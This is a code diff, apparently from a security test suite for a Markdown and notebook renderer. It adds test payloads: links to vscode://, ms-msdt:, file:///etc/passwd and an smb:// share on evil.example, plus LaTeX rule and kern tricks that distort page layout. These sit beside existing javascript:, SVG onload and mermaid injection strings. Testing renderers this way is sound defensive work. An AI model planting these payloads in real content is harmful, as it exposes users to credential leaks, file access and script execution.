@@ -69,6 +69,12 @@ LINKS = {
     "automatic": f"<javascript:{quote(run('automatic'))}>",
     "data": f"[data](data:text/html;base64,{base64.b64encode(page('data').encode()).decode()})",
 }
+PROGRAMS = {  # what a browser hands on to other programs, or opens from the disk
+    "vscode": "[vscode](vscode://file/etc/passwd)",
+    "msdt": "[msdt](ms-msdt:/id)",
+    "disk": "[disk](<file:///etc/passwd> 'title')",
+    "share": "[share][s]\n\n[s]:\n  smb://evil.example/x",
+}
 IMAGES = {
     "picture": f"![picture]({RAN}picture)",
     "picture_reference": f"![picture_reference]\n\n[picture_reference]: {RAN}picture_reference",
@@ -79,10 +85,12 @@ MATHS = {
     "href": f"$\\href{{javascript:{run('href')}}}{{\\text{{href}}}}$",
     "unmasked": f"$\\let\\a=\\href \\a{{javascript:{run('unmasked')}}}{{x}}$",
     "require": f"$\\require{{html}}\\style{{background:url({RAN}require)}}{{x}}$",
+    "rule": "$\\rule{300em}{9em}$ $\\def\\z{\\rule{300em}{9em}}$ $\\z$",
+    "kern": "$\\kern-99em\\smash{\\raise 9em{\\Huge x}}$",
     "mermaid": "```mermaid\ngraph TD; "
     f'A["<img src=x onerror={run("mermaid")}>"]; click A "javascript:{run("mermaid")}"\n```',
 }
-MARKDOWN = {**TAGS, **LINKS, **IMAGES, **MATHS}
+MARKDOWN = {**TAGS, **LINKS, **PROGRAMS, **IMAGES, **MATHS}
 SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{run("output_svg")}">{page("output_svg")}</svg>'
 WIDGET = "application/vnd.jupyter.widget-view+json"
 STATE = "application/vnd.jupyter.widget-state+json"
